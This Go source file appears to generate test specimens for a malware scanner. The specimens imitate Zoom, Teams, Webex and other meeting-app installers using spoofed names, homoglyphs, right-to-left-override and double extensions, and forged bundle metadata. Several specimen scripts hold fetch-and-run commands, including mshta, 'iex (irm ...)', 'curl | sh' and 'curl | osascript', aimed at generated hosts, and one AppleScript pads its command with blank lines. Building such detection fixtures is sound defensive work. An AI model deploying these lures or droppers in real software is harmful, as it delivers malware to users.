package specimens

import "fmt"

// programs makes programs that call themselves a brand's and cannot prove it.
func (b *kit) programs() {
	for _, name := range []string{"ZoomInstaller.exe", "ZoomInstallerFull.exe", "Zoom_5.17.11_x64.exe", "zoom-us-zoom_4471223901.exe", "MSTeamsSetup.exe", "Teams_windows_x64.exe",
		"MSTeamsSetup (1).exe", "teamsbootstrapper.exe", "Webex.exe", "webexapp.exe", "SlackSetup.exe", "GoogleMeet.exe", "Google Meet Installer.exe", "Skype-Setup.exe",
		"RingCentral.exe", "GoToMeeting Setup.exe", "Whereby Setup.exe", "BlueJeansInstaller.exe", "Zo\u043em Installer.exe", "Z00m_Installer.exe"} {
		b.program("pe-name", "windows", "plain", name, peFile(nil))
	}
	versions := []struct{ file, product, company, describes, original string }{
		{"setup.exe", "Zoom", "Zoom Video Communications, Inc.", "Zoom Installer", "ZoomInstaller.exe"},
		{"update.exe", "Zoom Workplace", "Zoom Communications, Inc.", "Zoom Meetings Installer", "ZoomInstallerFull.exe"},
		{"client.exe", "Microsoft Teams", "Microsoft Corporation", "Microsoft Teams", "MSTeamsSetup.exe"},
		{"installer (2).exe", "Microsoft Teams classic", "Microsoft Corporation", "Teams Setup", "Teams_windows_x64.exe"},
		{"meeting.exe", "Cisco Webex Meetings", "Cisco WebEx LLC", "Webex", "webexapp.exe"},
		{"download.exe", "Slack", "Slack Technologies, LLC", "Slack Installer", "SlackSetup.exe"},
		{"app.exe", "RingCentral", "RingCentral, Inc.", "RingCentral Setup", "RingCentral.exe"},
		{"join.exe", "Google Meet", "Google LLC", "Google Meet Installer", "GoogleMeet.exe"},
		{"host.exe", "Zoom SDK Update", "", "Zoom SDK Update", ""},
	}
	for _, v := range versions {
		var strings [][2]string
		for _, s := range [][2]string{{"CompanyName", v.company}, {"FileDescription", v.describes}, {"ProductName", v.product}, {"OriginalFilename", v.original}} {
			if s[1] != "" {
				strings = append(strings, s)
			}
		}
		b.program("pe-version", "windows", "plain", v.file, peFile(strings))
	}
	for _, name := range []string{"Agenda.pdf", "Interview Questions.docx", "meeting-invite.txt", "Deck.pptx", "screenshot.png"} {
		b.program("mz-document", "windows", "plain", name, peFile(nil))
	}
	for _, name := range []string{"Agenda.pdf.exe", "Meeting Notes.docx.exe", "Zoom Invite.pdf.scr", "Offer.pdf                    .exe", "Deck\u202exslx.exe", "Interview.docx.com"} {
		b.program("double-extension", "windows", "plain", name, peFile(nil))
	}
	for i, name := range []string{"Agenda.pdf.vbs", "Interview.docx.bat", "Zoom Invite.pdf.hta", "Offer.xlsx.ps1", "Deck.key.command"} {
		h := host(fmt.Sprintf("docs%d", i))
		text := []string{"CreateObject(\"WScript.Shell\").Run \"mshta https://" + h + "/a\", 0\r\n", "@mshta https://" + h + "/b\r\n",
			"<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"mshta https://" + h + "/c\", 0</script>\r\n", "iex (irm https://" + h + "/d)\r\n", "#!/bin/sh\ncurl -s https://" + h + "/e | sh\n"}[i]
		platform := "windows"
		if i == 4 {
			platform = "macos"
		}
		b.script("double-extension", platform, []string{"vbscript", "batch", "hta", "powershell", "shell"}[i], "plain", name, text)
	}
	b.appBundles()
}

func infoPlist(id, name, executable string) []byte {
	return []byte(lines(`<?xml version="1.0" encoding="UTF-8"?>`, `<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">`,
		`<plist version="1.0"><dict>`, "<key>CFBundleIdentifier</key><string>"+id+"</string>", "<key>CFBundleName</key><string>"+name+"</string>",
		"<key>CFBundleDisplayName</key><string>"+name+"</string>", "<key>CFBundleExecutable</key><string>"+executable+"</string>", "<key>CFBundlePackageType</key><string>APPL</string>", "</dict></plist>"))
}

func (b *kit) appBundles() {
	apps := []struct{ folder, id, name, executable, signed string }{
		{"zoom.us.app", "us.zoom.xos", "zoom.us", "zoom.us", ""},
		{"zoom.us.app", "us.zoom.xos", "zoom.us", "zoom.us", "us.zoom.xos"},
		{"Zoom.app", "com.example.launcher", "Zoom", "Launcher", "launcher-55554944"},
		{"Microsoft Teams.app", "com.microsoft.teams2", "Microsoft Teams", "MSTeams", "com.microsoft.teams2"},
		{"TeamsApp.app", "com.teams.app", "Microsoft Teams", "app", ""},
		{"Webex.app", "Cisco-Systems.Spark", "Webex", "Webex", "Cisco-Systems.Spark"},
		{"Slack.app", "com.tinyspeck.slackmacgap", "Slack", "Slack", ""},
		{"Google Meet.app", "com.google.meet", "Google Meet", "meet", "com.google.meet"},
		{"Installer.app", "us.zoom.xos", "Zoom Installer", "Installer", "us.zoom.xos"},
		{"zoom-sdk-update.app", "zoom.sdk", "Zoom SDK Update", "run", ""},
	}
	for _, a := range apps {
		b.list = append(b.list, Specimen{Name: a.folder, Family: "macho", Platform: "macos", Wrapper: "app", Obfuscation: "plain", Language: "none", Mode: 0o755, Members: []Member{
			{"Contents/Info.plist", infoPlist(a.id, a.name, a.executable), 0o644},
			{"Contents/MacOS/" + a.executable, machoFile(a.signed), 0o755},
		}})
	}
	for i, name := range []string{"zoom.us", "ZoomInstaller", "Microsoft Teams", "zoomusInstaller"} {
		signed := ""
		if i%2 == 1 {
			signed = "zoom-5555494412"
		}
		b.program("macho", "macos", "plain", name, machoFile(signed))
	}
	// applets: the program is the system's own, the script says what happens
	for i, name := range []string{"Zoom SDK Update.app", "systemupdate.app", "Camera Fix.app"} {
		cmd := "curl -s https://" + host(fmt.Sprintf("applet%d", i)) + "/a | osascript"
		var f fasd
		f.begin()
		f.comment(" update of the meeting component")
		f.blank(30 * i)
		f.call("sysoexec")
		f.text(cmd)
		f.end()
		b.list = append(b.list, Specimen{Name: name, Family: "applet", Platform: "macos", Wrapper: "app", Obfuscation: "compiled", Language: "applescript", Mode: 0o755, clear: []string{cmd}, Members: []Member{
			{"Contents/Info.plist", infoPlist("com.apple.ScriptEditor.id.update", name[:len(name)-4], "applet"), 0o644},
			{"Contents/MacOS/applet", machoFile("applet"), 0o755},
			{"Contents/Resources/Scripts/main.scpt", f.data, 0o644},
		}})
	}
	b.list = append(b.list, Specimen{Name: "Zoom SDK Update.scptd", Family: "applet", Platform: "macos", Wrapper: "scptd", Obfuscation: "plain", Language: "applescript", Mode: 0o755, Members: []Member{
		{"Contents/Info.plist", infoPlist("com.apple.ScriptEditor.id.zoom", "Zoom SDK Update", ""), 0o644},
		{"Contents/Resources/Scripts/main.applescript", []byte("-- Zoom SDK update\n\ndo shell script \"curl -s https://" + host("scptd") + "/z | sh\"\n"), 0o644},
	}})
}
